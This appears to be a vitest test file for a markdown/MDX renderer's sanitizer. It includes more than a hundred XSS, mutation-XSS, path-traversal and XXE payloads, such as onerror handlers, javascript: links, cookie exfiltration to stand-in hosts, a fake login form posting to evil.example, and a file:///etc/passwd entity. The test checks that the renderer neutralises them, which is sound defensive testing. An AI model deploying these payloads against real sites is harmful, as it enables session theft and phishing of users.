import fc from 'fast-check'
import { expect, test } from 'vitest'
import { TextRefused } from './rendering/text-refusal.ts'
import { render } from './rendering/render.ts'

const TAGS =
  'p br hr h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong del sup a img figure figcaption span div section table thead tbody tr th td details summary'
const ATTRIBUTES =
  'id class dir href rel title src srcset sizes width height alt loading decoding start align scope role tabindex aria-label aria-hidden aria-describedby data-seed data-embed data-video data-title data-technology data-correct data-footnotes data-footnote-ref data-footnote-backref data-code data-table'
const tags = new Set(TAGS.split(' '))
const attributes = new Set(ATTRIBUTES.split(' '))

/**
 * Matches the address of an upload, or of `/_image` for a picture. A browser would request any other address
 * of this site with the reader's session.
 */
const isShown =
  /^\/(?:files\/[a-z]{1,20}\/[a-z0-9-]+\.[a-z0-9]+|_image\?url=(?:%2Ffiles%2F|https%3A%2F%2F)[^?#/]+)$/

/**
 * Returns whether a link uses http or https, writes an e-mail, or names neither a scheme nor another host.
 */
const isFollowed = (href: string) =>
  /^(?:https?:\/\/|mailto:)/i.test(href) ||
  (!/^\s*(?:[/\\]{2}|[a-z][a-z0-9+.-]*:)/i.test(href) && !/[\0-\x20\\]/.test(href))

/** Exact markup that the renderer creates for a quiz: a form that is sent nowhere and only has choices. */
const isOfQuiz =
  /^<(?:form method="dialog"|fieldset|label|(?:legend|span) dir="auto"|input type="(?:radio|checkbox)" name="quiz-\d+" value="\d"|button type="submit"|\/(?:form|fieldset|label|legend|button))>$/

/** Reads stored HTML strictly in its stored spelling; reports anything unexpected. */
function listProblems(html: string): string[] {
  const problems: string[] = []
  const rest = html.replaceAll(
    /<(\/?)([a-z][a-z0-9]*)((?:\s[a-z-]+(?:="[^"]*")?)*)>/g,
    (...parts: string[]) => {
      const [fullTag = '', , name, list] = parts
      if (isOfQuiz.test(fullTag)) return ''
      if (!tags.has(String(name))) problems.push(fullTag)
      for (const [, attribute = '', value = ''] of String(list).matchAll(/\s([a-z-]+)(?:="([^"]*)")?/g)) {
        if (!attributes.has(attribute)) problems.push(fullTag)
        if (attribute === 'dir' && !/^(ltr|rtl)$/.test(value)) problems.push(fullTag)
        if (attribute === 'href' && !isFollowed(value)) problems.push(fullTag)
        if (attribute === 'src' && !isShown.test(value)) problems.push(fullTag)
        if (
          attribute === 'data-video' &&
          !/^(?:[\w-]{11}|\/files\/[a-z]+\/[a-z0-9-]+\.[a-z0-9]+)$/.test(value)
        )
          problems.push(fullTag)
        if (attribute === 'srcset' && !/^(\/_image\?url=%2Ffiles%2F[^ ]+ \d+w(, |$))+$/.test(value))
          problems.push(fullTag)
        if (attribute === 'id' && !value.startsWith('h-')) problems.push(fullTag)
      }
      return ''
    },
  )
  if (rest.includes('<')) problems.push(rest.slice(rest.indexOf('<'), rest.indexOf('<') + 80))
  return problems
}

function outcome(source: string): string[] {
  try {
    return listProblems(render(source, { imageHosts: ['ok.example'] }).html)
  } catch (error) {
    // The parser's own errors are hidden from authors, but not from this test.
    return error instanceof TextRefused && !error.reason.includes('could not be read') ? [] : [String(error)]
  }
}

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//x.example/x.js>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="x`<script>alert(1)</script>"`>',
  '<IMG SRC=javascript:alert(1)>',
  '<Img src="javascript:alert(1)" />',
  '<Img src="data:image/svg+xml;base64,PHN2Zz4=" />',
  '<Img src="https://ok.example/a.png" onLoad={alert(1)} style={{position: "fixed"}} />',
  '<Img {...{src: "x", onError: alert}} />',
  '<Img src={`https://ok.example/${document.cookie}`} />',
  '<Img src="https://ok.example@evil.example/a.png" />',
  '<Img src="//evil.example/a.png" />',
  '<Img src="/api/auth/signout" />',
  '<Img src="/_image?url=http://127.0.0.1" />',
  '![x](/files/../api/v3/user/exportUsers) ![y](/files/x/../../api/v3/user/exportUsers)',
  '![x](/files/%2e%2e/api/v3/user/exportUsers) ![y](/files/.%2E/api/auth/signout)',
  '![x](/files/%2e%2e%2fapi/auth/signout) ![y](/files\\..\\api\\auth\\signout)',
  '![x](\\files/../api) ![y](//files/content/a.webp) ![z](/\\evil.example/a.png)',
  '![x](/%61pi/auth/signout) ![y](/./api/auth/signout) ![z](/dash/admin)',
  '![x](/_image?url=%2Fapi&w=640&q=75) ![y](?page=2) ![z](/feed.xml)',
  '<Img src="/files/../api/v3/user/exportUsers" /> <img src="/files/a/../../api">',
  '<VideoPlayer src="/files/../api/v3/user/exportUsers" />',
  '<SponsoredContentImage src="/files/../api/auth/signout" href="/api/auth/signout" />',
  '<Img src="https://ok.example/a.png" alt=\'"><svg onload=alert(1)>\' />',
  '<Img src="https://ok.example/&quot;onerror=&quot;alert(1)" />',
  '<img src="/files/content/a-4x3.webp" srcset="//evil.example/a 1w" sizes="1px" width="99999">',
  '![x](/files/content/a-99999x99999.webp "onload=alert(1)")',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<b>x"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<VideoPlayer src="javascript:alert(1)" />',
  '<VideoPlayer src="data:text/html,x" />',
  "<LiteYouTube videoId='\"><img src=x>' />",
  '<LiteYouTube videoId="oEGNKIj1TmI" title=\'"><img src=x onerror=alert(1)>\' />',
  "<TechTutorials tech='\"><b>' />",
  '<SponsoredContentImage src="https://ok.example/a.png" href="javascript:alert(1)" />',
  '<Quiz questions={[{question: "<img src=x onerror=alert(1)>", answers: ["<b>", "\\"><b>"], correct: 0}]} />',
  '<Quiz questions={[{__proto__: {question: "x"}, constructor: 1}]} />',
  '<Quiz questions={[&a [*a, *a], *a]} />',
  '<constructor>x</constructor><toString /><__proto__ /><hasOwnProperty x={1} />',
  '<Img.constructor src="x" /><a:b c:d="e" />',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#9;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]( javascript:alert(1) "t")',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x](vbscript:msgbox(1)) [y](data:text/html;base64,PHN2Zz4=) [z](blob:x) [w](file:///etc/passwd)',
  '[x](view-source:javascript:alert(1)) [y](feed:javascript:alert(1))',
  '[x](https://good.example@evil.example)',
  '[x](//evil.example) [y](/\\evil.example) [z](\\\\evil.example) [w](///evil.example)',
  '<javascript:alert(1)> <data:text/html,x>',
  '![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA) ![z](http://127.0.0.1/a.png)',
  '![" onerror="alert(1)](https://ok.example/a.png \'" onload="alert(1)\')',
  '![x][r]\n\n[r]: <javascript:alert(1)>',
  'www.example.org/"onmouseover="alert(1) https://a.example/<b>',
  '## <img src=x onerror=alert(1)>',
  '## constructor\n\n## __proto__\n\n## location\n\n## cookie',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
  '[^__proto__]\n\n[^__proto__]: <svg onload=alert(1)>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```js onload=alert(1) title="</code><script>"\nx\n```',
  '```__proto__\nx\n```\n\n```constructor\nx\n```',
  '```html\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '| <script>alert(1)</script> | a |\n|-|-|\n| <img src=x onerror=alert(1)> | b |',
  '- [x] <input autofocus onfocus=alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '{alert(1)}<b>{<img src=x onerror=alert(1)>}</b>',
  'export const x = <script>alert(1)</script>',
  '<b x={"</b><script>"}>y</b>',
  '> <Img\nsrc="https://ok.example/a.png"\nonerror="alert(1)" />',
  '[a <Img src="https://x.example/b.png" /> <LiteYouTube videoId="oEGNKIj1TmI" />](https://c.example)',
  '\uD800<img src=x onerror=alert(1)>\uDFFF',
]

test('no vector leaves more in the page than the allow-list', () => {
  expect(vectors.length).toBeGreaterThanOrEqual(60)
  expect(
    vectors.filter((vector) => outcome(vector).length > 0).map((vector) => [vector, outcome(vector)]),
  ).toEqual([])
})

test('a vector stays harmless wherever it stands', () => {
  const prefixes = ['> ', '- ', '1. ', '**', '# ', 'a ', '<div>\n\n', '[l](', '![', '| a |\n|-|\n| ']
  const badSources = prefixes
    .flatMap((prefix) => vectors.map((vector) => prefix + vector))
    .filter((source) => outcome(source).length > 0)
  expect(badSources).toEqual([])
})

test('the check itself sees what must not be there', () => {
  for (const html of [
    '<svg></svg>',
    '<a href="javascript:x">',
    '<p onclick="x">',
    '<img src="https://x">',
    '<img src="/api/v3/user/exportUsers">',
    '<figure data-video="/api/x"></figure>',
    '<img src="/x" srcset="https://x 1w">',
    '<p id="a">',
    '<form action="/account">',
    '<input type="text" name="quiz-0" value="0">',
    '<button type="submit" formaction="/account">',
    '<',
  ]) {
    expect(listProblems(html)).not.toEqual([])
  }
})

test('any text is shown safely or refused, and nothing else ever happens', () => {
  const crumbs = [
    '<',
    '>',
    '</',
    '/>',
    '<Img ',
    'src="',
    '"',
    "'",
    '{',
    '}',
    '`',
    '```',
    '\n',
    '\n\n',
    '> ',
    '- ',
    '1. ',
  ]
  const tokens = [
    '<br>',
    '<!--',
    '-->',
    '<b>',
    '</b>',
    '[',
    '](',
    ')',
    '![',
    '[^1]',
    '[^1]: ',
    '|',
    '\n|-|\n',
    '# ',
    '*',
    '_',
    '~~',
    '\\',
    '&lt;',
  ]
  const more = [
    'https://ok.example/',
    'javascript:',
    'onerror=',
    '<Quiz questions={[',
    '\t',
    '    ',
    ' ',
    'a',
    '\u0000',
    '\uD800',
    '=',
    ':',
    'www.a.b',
  ]
  const soup = fc
    .array(fc.constantFrom(...crumbs, ...tokens, ...more), { maxLength: 60 })
    .map((parts) => parts.join(''))
  fc.assert(
    fc.property(
      fc.oneof(soup, soup, fc.string({ maxLength: 200, unit: 'binary' })),
      (source) => outcome(source).length === 0,
    ),
    { numRuns: 1500 },
  )
})
